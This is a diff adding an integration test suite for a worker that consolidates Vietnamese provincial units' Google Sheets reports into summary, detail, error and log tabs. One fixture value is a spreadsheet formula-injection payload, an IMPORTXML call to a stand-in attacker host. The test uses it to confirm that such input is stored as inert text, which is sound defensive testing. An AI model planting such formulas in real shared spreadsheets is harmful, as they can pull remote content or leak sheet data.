@@ -1,0 +1,288 @@
+import { env } from "cloudflare:workers";
+import { beforeAll, describe, expect, it } from "vitest";
+import { sumMetrics } from "../../shared/aggregate.ts";
+import { METRIC_IDS, METRICS } from "../../shared/metrics.ts";
+import { resolvePeriod } from "../../shared/periods.ts";
+import { computeTotals, type TotalsBody } from "../../worker/consolidation/totals.ts";
+import type { RunRecord } from "../../worker/storage/types.ts";
+import { putAll, readSpreadsheet, type SheetState } from "./helpers/emulator.ts";
+import { runJob } from "./helpers/run-job.ts";
+import { cleanUnitTabs, provinceSeed, serial, templateTab, unitSeed } from "./helpers/seeds.ts";
+
+// Ids unique to this file: the emulator is shared by every test file.
+const P = "cons-tinh";
+const id = (code: string) => `cons-${code.toLowerCase()}`;
+const IMPORTXML = '=IMPORTXML("http://evil.example/x","//a")';
+
+const messyTabs = [
+  templateTab(
+    "inspections",
+    [
+      [IMPORTXML, "05/06/2026", "BCĐ tỉnh", "kiểm tra", "Doanh nghiệp", "1.500", "x"],
+      ["Công ty B".normalize("NFD"), "2026-07-01", "BCĐ huyện", "Giám sát", "Doanh nghiệp", "", ""],
+      ["Tổng cộng", "", "", "", "", 1500, ""],
+      ["Công ty C", "31/02/2026", "BCĐ tỉnh", "Kiểm tra", "Doanh nghiệp", "", ""],
+      ["Công ty D", "10/10/2026", "Sở Nội vụ", "Kiểm tra", "Doanh nghiệp", "", ""],
+    ],
+    {
+      // Decomposed, lower-case title: Google cannot parse the template's range for it.
+      title: "kiểm tra, giám sát".normalize("NFD"),
+      above: [["BIỂU KIỂM TRA, GIÁM SÁT NĂM 2026"], []],
+      headers: [
+        "Đơn vị được kiểm tra",
+        "Ngày kiểm tra",
+        "Chủ thể kiểm tra",
+        "Hình thức",
+        "Loại hình",
+        "Số kiến nghị",
+        "Người ghi",
+      ],
+    },
+  ),
+  templateTab(
+    "awards",
+    [["5/QĐ-UBND", "01/03/2026", "UBND huyện", "Giấy khen", "Hộ gia đình", "Hộ ông B", "Khác", ""]],
+    { title: "KHEN THƯỞNG" },
+  ),
+  templateTab("dialogues", [
+    [serial("2026-12-20"), "Bí thư", "Xã X", 10, "", ""], // 2027 under decree09
+    [serial("2026-12-14"), "Bí thư", "Xã X", 30, "", ""],
+  ]),
+  templateTab("trainings", [["15-12-2025", "Hội nghị", "Triển khai", "không"]]),
+];
+
+const renamedColumnTabs = cleanUnitTabs().map((tab) =>
+  tab.title === "Kiểm tra, giám sát"
+    ? { ...tab, values: [["Ngày KT", ...tab.values![0]!.slice(1)], ...tab.values!.slice(1)] }
+    : tab,
+);
+
+let run: RunRecord;
+let totals: TotalsBody;
+let tabs: Map<string, SheetState>;
+
+beforeAll(async () => {
+  await putAll([
+    provinceSeed(P, [
+      ["C01", "Đơn vị sạch", id("C01")],
+      ["C02", "Đơn vị lộn xộn", `https://docs.google.com/spreadsheets/d/${id("C02")}/edit#gid=0`],
+      ["C03", "Chưa chia sẻ", id("C03")],
+      ["C04", "Google lỗi 503 một lần", id("C04")],
+      ["C05", "Bảng tính không tồn tại", id("C05")],
+      ["C06", "Thiếu trang", id("C06")],
+      ["C07", "Sửa tên cột", id("C07")],
+      ["C08", "Chưa có bảng tính", ""],
+      ["C09", "Google hết hạn mức một lần", id("C09")],
+      ["C10", "Google lỗi 500 mãi", id("C10")],
+      ["C01", "Dòng trùng mã", id("C01")],
+    ]),
+    unitSeed(id("C01"), "C01", cleanUnitTabs()),
+    unitSeed(id("C02"), "C02", messyTabs),
+    unitSeed(id("C03"), "C03", cleanUnitTabs(), { deny: true }),
+    unitSeed(id("C04"), "C04", cleanUnitTabs(), { failFirst: 1, failStatus: 503 }),
+    unitSeed(id("C06"), "C06", cleanUnitTabs().slice(0, 1)),
+    unitSeed(id("C07"), "C07", renamedColumnTabs),
+    unitSeed(id("C09"), "C09", cleanUnitTabs(), { failFirst: 1, failStatus: 429 }),
+    unitSeed(id("C10"), "C10", cleanUnitTabs(), { failFirst: 1000, failStatus: 500 }),
+  ]);
+  // Short backoff so "500 until the retries run out" takes milliseconds, not seconds.
+  run = await runJob(P, {}, { retry: { baseDelayMs: 5, maxDelayMs: 20 } });
+  totals = await computeTotals(env.DB, P, resolvePeriod("2026")!, new Date());
+  tabs = new Map((await readSpreadsheet(P)).sheets.map((s) => [s.title, s]));
+});
+
+const unit = (code: string) => totals.units.find((u) => u.code === code)!;
+const values = (title: string) => tabs.get(title)?.values ?? [];
+
+describe("a province with clean, messy and failing units", () => {
+  it("finishes the run whatever the units do", () => {
+    expect(run).toMatchObject({
+      status: "succeeded",
+      periodId: "2026",
+      periodRule: "decree09",
+      counts: { unitsTotal: 10, unitsFresh: 6, unitsStale: 0, unitsUnreadable: 3, unitsMissing: 1 },
+    });
+  });
+
+  it("gives every registered unit its status once, in registry order", () => {
+    expect(totals.units.map((u) => [u.code, u.status])).toEqual([
+      ["C01", "fresh"],
+      ["C02", "fresh"],
+      ["C03", "unreadable"],
+      ["C04", "fresh"],
+      ["C05", "unreadable"],
+      ["C06", "fresh"],
+      ["C07", "fresh"],
+      ["C08", "missing"],
+      ["C09", "fresh"],
+      ["C10", "unreadable"],
+    ]);
+    expect(unit("C03").error).toContain("chia sẻ");
+    expect(unit("C03").error).toContain(JSON.parse(env.GOOGLE_SERVICE_ACCOUNT_JSON).client_email);
+    expect(unit("C05").error).toContain("Không tìm thấy bảng tính");
+    expect(unit("C08").error).toBeNull();
+    expect(unit("C10").error).toContain("Google Sheets tạm thời không phản hồi");
+  });
+
+  it("counts each unit's valid rows in the period", () => {
+    const clean = {
+      inspections: 3,
+      inspectionsByProvince: 2,
+      inspectionsByDistrict: 1,
+      inspectedBases: 2,
+      recommendations: 4,
+      recommendationsRemedied: 3,
+      awards: 2,
+      awardsCollective: 1,
+      awardsIndividual: 1,
+      awardDecisions: 1,
+      dialogues: 1,
+      dialogueParticipants: 50,
+      trainings: 1,
+      trainingAttendance: 120,
+      invalidRows: 0,
+    };
+    expect(unit("C01").metrics).toMatchObject(clean);
+    expect(unit("C04").metrics).toEqual(unit("C01").metrics);
+    expect(unit("C09").metrics).toEqual(unit("C01").metrics);
+    expect(unit("C02").metrics).toMatchObject({
+      inspections: 2,
+      inspectionsByProvince: 1,
+      inspectionsByDistrict: 1,
+      recommendations: 1500,
+      awards: 1,
+      awardsCertificate: 1,
+      awardsCollective: 0,
+      dialogues: 1,
+      dialogueParticipants: 30,
+      trainings: 1,
+      trainingAttendance: 0,
+      invalidRows: 2,
+    });
+    // A missing tab or a renamed column loses that tab only.
+    expect(unit("C06").metrics).toMatchObject({ inspections: 3, awards: 0, dialogues: 0 });
+    expect(unit("C07").metrics).toMatchObject({
+      inspections: 0,
+      awards: 2,
+      dialogues: 1,
+      trainings: 1,
+    });
+    for (const code of ["C03", "C05", "C08", "C10"]) expect(unit(code).metrics.inspections).toBe(0);
+    expect(totals.total).toEqual(sumMetrics(totals.units.map((u) => u.metrics)));
+    expect(totals.total).toMatchObject({ inspections: 14, inspectionsByProvince: 9, awards: 9 });
+    for (const u of totals.units) expect(Object.keys(u.metrics)).toEqual([...METRIC_IDS]);
+  });
+
+  it("writes Tổng hợp: period, header, a row per unit, the province total", () => {
+    const rows = values("Tổng hợp");
+    expect(String(rows[1]?.[0])).toContain("Năm 2026 (từ 15/12/2025 đến 14/12/2026");
+    expect(String(rows[2]?.[0])).toMatch(/^Cập nhật lúc \d\d:\d\d \d\d\/\d\d\/\d{4}/);
+    const header = rows.findIndex((r) => r[0] === "Mã đơn vị");
+    expect(rows[header]).toEqual([
+      "Mã đơn vị",
+      "Tên đơn vị",
+      "Tình trạng",
+      ...METRICS.map((m) => m.label),
+    ]);
+    const body = rows.slice(header + 1);
+    expect(body.map((r) => r[0])).toEqual([
+      "C01",
+      "C02",
+      "C03",
+      "C04",
+      "C05",
+      "C06",
+      "C07",
+      "C08",
+      "C09",
+      "C10",
+      "Toàn tỉnh",
+    ]);
+    expect(body.map((r) => r[2])).toEqual([
+      "Đã cập nhật",
+      "Đã cập nhật",
+      "Không đọc được",
+      "Đã cập nhật",
+      "Không đọc được",
+      "Đã cập nhật",
+      "Đã cập nhật",
+      "Chưa có bảng tính",
+      "Đã cập nhật",
+      "Không đọc được",
+      "6/10 đã cập nhật",
+    ]);
+    const inspectionsColumn = 3 + METRIC_IDS.indexOf("inspections");
+    expect(body.at(-1)?.[inspectionsColumn]).toBe(14);
+    expect(body[0]?.[inspectionsColumn]).toBe(3);
+    // No figures for a unit never read: blank, not a zero that looks like a report.
+    expect(body[2]?.[inspectionsColumn] ?? null).toBeNull();
+  });
+
+  it("formats Tổng hợp: frozen header, bold total, marked units, notes with the reason", () => {
+    const sheet = tabs.get("Tổng hợp")!;
+    const header = sheet.values.findIndex((r) => r[0] === "Mã đơn vị");
+    expect(sheet.properties.gridProperties.frozenRowCount).toBe(header + 1);
+    const formats = sheet.formats ?? [];
+    const total = header + 11;
+    expect(formats[total]?.[0]).toMatchObject({ textFormat: { bold: true } });
+    expect(formats[header + 3]?.[5]).toHaveProperty("backgroundColor");
+    expect(formats[header + 1]?.[5]?.backgroundColor).toBeUndefined();
+    expect(sheet.notes?.[header + 3]?.[2]).toContain("chia sẻ");
+  });
+
+  it("writes every valid row to the detail tabs, unit text as text", () => {
+    const sheet = tabs.get("Chi tiết – Kiểm tra, giám sát")!;
+    const rows = sheet.values;
+    expect(rows[0]?.slice(0, 4)).toEqual([
+      "Mã đơn vị",
+      "Tên đơn vị",
+      "Ngày kiểm tra",
+      "Chủ thể kiểm tra",
+    ]);
+    const codes = rows.slice(1).map((r) => r[0]);
+    expect(codes.filter((c) => c === "C01")).toHaveLength(4); // all periods, marked
+    expect(codes.filter((c) => c === "C02")).toHaveLength(2);
+    expect(codes).not.toContain("C03");
+    const injected = rows.findIndex((r) => r.includes(IMPORTXML));
+    expect(injected).toBeGreaterThan(0);
+    expect(sheet.formulas?.flat().filter((f) => f !== null) ?? []).toEqual([]);
+    // Dates are serial numbers shown as dd/mm/yyyy.
+    expect(rows[injected]?.[2]).toBe(serial("2026-06-05"));
+    expect(sheet.formats?.[injected]?.[2]).toMatchObject({
+      numberFormat: { type: "DATE", pattern: "dd/mm/yyyy" },
+    });
+    expect(values("Chi tiết – Khen thưởng").length).toBe(1 + 2 + 1 + 2 + 0 + 2 + 2);
+  });
+
+  it("lists every problem in Lỗi dữ liệu with unit, tab, row and column", () => {
+    const rows = values("Lỗi dữ liệu");
+    expect(rows[0]).toEqual(["Mã đơn vị", "Biểu", "Dòng", "Cột", "Giá trị", "Lỗi"]);
+    const of = (code: string) => rows.filter((r) => r[0] === code);
+    expect(of("C01").some((r) => r[1] === "Đơn vị" && r[2] === 13 && r[3] === "Mã đơn vị")).toBe(
+      true,
+    );
+    expect(of("C03")[0]?.slice(3, 5)).toEqual(["Bảng tính", id("C03")]);
+    expect(of("C05")[0]?.[5]).toContain("Không tìm thấy");
+    expect(
+      of("C06")
+        .map((r) => r[1])
+        .sort(),
+    ).toEqual(["Khen thưởng", "Tập huấn, hội nghị", "Đối thoại"].sort());
+    expect(
+      of("C07").some(
+        (r) => r[1] === "Kiểm tra, giám sát" && String(r[5]).includes("Ngày kiểm tra"),
+      ),
+    ).toBe(true);
+    const messy = of("C02");
+    expect(messy.some((r) => r[4] === "31/02/2026")).toBe(true);
+    expect(messy.some((r) => r[4] === "Sở Nội vụ")).toBe(true);
+    expect(messy.some((r) => String(r[5]).startsWith("Cảnh báo:"))).toBe(true);
+    expect(of("C08")).toEqual([]);
+  });
+
+  it("logs the run in Nhật ký", () => {
+    const rows = values("Nhật ký");
+    expect(rows).toHaveLength(2);
+    expect(rows[1]?.slice(2, 8)).toEqual(["Chạy ngay", "Hoàn thành", "Năm 2026", 10, 6, 3]);
+  });
+});
